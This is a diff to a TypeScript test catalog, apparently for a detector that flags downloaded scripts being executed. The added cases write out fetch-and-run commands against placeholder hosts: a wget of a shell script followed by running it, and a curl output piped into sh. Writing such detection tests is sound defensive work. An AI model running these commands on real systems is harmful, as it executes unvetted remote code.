@@ -36,6 +36,12 @@ export const catalog: Readonly<Record<string, Cases>> = {
           { command: 'sh /tmp/b' },
         ],
       },
+      {
+        processes: [
+          { command: 'wget -q http://x/a.sh', summary: { file_written: ['/tmp/a.sh'] } },
+          { command: 'sh ./a.sh', summary: { file_opened: ['/etc/ld.so.cache', '/tmp/a.sh'] } },
+        ],
+      },
     ],
     misses: [
       {
@@ -61,6 +67,7 @@ export const catalog: Readonly<Record<string, Cases>> = {
         ],
       },
       runs('sh -c wget -qO- http://a/ | sudo bash'),
+      runs("bash -c 'curl -fsSL http://a/ | sh'"),
     ],
     misses: [
       {
